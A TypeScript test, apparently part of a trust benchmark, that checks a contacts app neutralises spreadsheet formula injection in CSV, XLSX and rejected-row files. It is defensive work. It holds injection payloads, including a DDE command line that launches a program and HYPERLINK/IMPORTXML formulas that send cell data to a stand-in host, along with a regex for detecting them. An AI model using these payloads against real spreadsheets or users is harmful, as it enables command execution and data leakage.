import { createRowReader, trimOuter } from '../../../packages/shared/src/index.ts';
import { openArchive } from '../../../packages/client/src/features/spreadsheets/workbook/archive.ts';
import type { TrustFigure } from '../../../packages/server/bench/trust/trust-figure.ts';
import { ask, signIn } from '../../convive-api.ts';
import { removeDataDir, startApp } from '../../convive-app.ts';
import { readSpreadsheet } from '../../read-spreadsheet.ts';

const COUNT = 500;
const FIELDS = ['identifier', 'organization'];
const FRONTS = ['', ' ', '\t', '\u00a0', '\u200b', "'", "''", '"', '\n', ' \t'];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '=-', '@@'];
const BODIES = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://x.example/?"&A1,"ok")',
  '1+1',
  'SUM(1;2)',
  `IMPORTXML(CONCAT("http://x.example/",A1),"//a")`,
];
/** What a spreadsheet takes for the beginning of something to run, behind what it does not show. */
const ACTIVE = /^(?:[\t\r\n]|[\s\p{Cc}\u200b-\u200f\u2060]*[=+\-@|%＝＋－＠])/u;

const payload = (n: number) => {
  const [front, sign, body] = [
    FRONTS[n % 10]!,
    SIGNS[Math.floor(n / 10) % 10]!,
    BODIES[Math.floor(n / 100)]!,
  ];
  return `${front}${sign}${body} ${n}`;
};

const IMPORT = `mutation ($input: ImportContactsInput!) { importContacts(input: $input) {
  contactImport { rejectedRowsUrl counts { create unchanged invalid } } errors { message } } }`;
const EXPORT = `mutation ($input: ExportContactsInput!) { exportContacts(input: $input) {
  contactExport { url } errors { message } } }`;
const CONTACTS = `query ($after: String) { contacts(first: 200, after: $after) {
  edges { node { identifier organization } } pageInfo { hasNextPage endCursor } } }`;

/** Values that would run in a spreadsheet, through every file that goes out, and in again. */
export async function trustFormulas(): Promise<TrustFigure[]> {
  const app = await startApp();
  try {
    const token = await signIn(app.url);
    const send = async (query: string, variables: Record<string, unknown>) => {
      const { data, errors } = await ask(app.url, token, query, variables);
      if (errors) throw new Error(JSON.stringify(errors));
      return data;
    };
    const take = async (link: string) => {
      const { pathname, search } = new URL(link, app.url);
      const answer = await fetch(`${app.url}${pathname}${search}`);
      return new Uint8Array(await answer.arrayBuffer());
    };
    const importRows = async (fields: readonly string[], rows: readonly string[][]) => {
      const columns = fields.map((field) => ({ heading: field, field }));
      return (await send(IMPORT, { input: { import: { columns }, rows } })).importContacts.contactImport;
    };
    const rows = Array.from({ length: COUNT }, (_, n) => [`F-${n}`, payload(n)]);
    await importRows(FIELDS, rows);
    const stored = await readStored(send);
    const { rejectedRowsUrl } = await importRows(
      [...FIELDS, 'email'],
      rows.map(([, organization], n) => [`R-${n}`, organization!, 'nobody']),
    );
    const rejected = await take(rejectedRowsUrl);
    const files = [rejected];
    for (const format of ['CSV', 'XLSX']) {
      const { exportContacts } = await send(EXPORT, { input: { format, fields: FIELDS } });
      files.push(await take(exportContacts.contactExport.url));
    }
    const found = { cells: 0, active: 0, restored: 0, unchanged: 0 };
    for (const [place, bytes] of files.entries()) {
      const { rows: read } = await readSpreadsheet(bytes);
      found.cells += read.length;
      found.active += countActive(bytes, read);
      const reader = createRowReader(
        FIELDS.map((field) => ({ heading: field, field })),
        { country: 'FR' },
      );
      for (const [identifier, organization] of read) {
        const { values } = reader.read([identifier!, organization!]);
        // What was rejected comes back as it was sent, what was stored as it is stored.
        const sent = identifier!.startsWith('R-') ? trimOuter(payload(Number(identifier!.slice(2)))) : null;
        if (values[1] === (sent ?? stored.get(identifier!))) found.restored += 1;
      }
      if (place === 0) continue;
      const again = await importRows(
        FIELDS,
        read.map((cells) => cells.slice(0, 2)),
      );
      found.unchanged += again.counts.unchanged;
    }
    const after = await readStored(send);
    const isSame = [...stored].every(([identifier, value]) => after.get(identifier) === value);
    return [
      {
        row: 17,
        promise: `${COUNT} formulas in CSV, XLSX and the file of rejected rows: none active, all restored when they come in again`,
        measured: `${found.active} of ${found.cells} cells active; ${found.restored} restored; ${found.unchanged} of ${2 * COUNT} rows unchanged when imported again, values ${isSame ? 'equal' : 'different'}`,
        kept:
          found.cells === 3 * COUNT &&
          found.active === 0 &&
          found.restored === found.cells &&
          found.unchanged === 2 * COUNT &&
          isSame,
      },
    ];
  } finally {
    await app.stop();
    await removeDataDir(app.dataDir);
  }
}

async function readStored(
  send: (query: string, variables: Record<string, unknown>) => Promise<any>,
): Promise<Map<string, string | null>> {
  const stored = new Map<string, string | null>();
  let after: string | null = null;
  do {
    const { contacts } = await send(CONTACTS, { after });
    for (const { node } of contacts.edges) stored.set(node.identifier, node.organization);
    after = contacts.pageInfo.hasNextPage ? contacts.pageInfo.endCursor : null;
  } while (after);
  return stored;
}

/** Of a workbook the cells that hold a formula, whatever it says: its texts never run. Of a CSV whatever looks like one. */
function countActive(bytes: Uint8Array, rows: readonly string[][]): number {
  if (bytes[0] !== 0x50) return rows.filter((cells) => ACTIVE.test(cells[1]!)).length;
  const archive = openArchive(bytes);
  const sheets = archive.names.filter((name) => name.startsWith('xl/worksheets/'));
  const text = sheets.map((name) => new TextDecoder().decode(archive.read(name)!)).join('');
  return text.split(/<f[ >]/).length - 1;
}
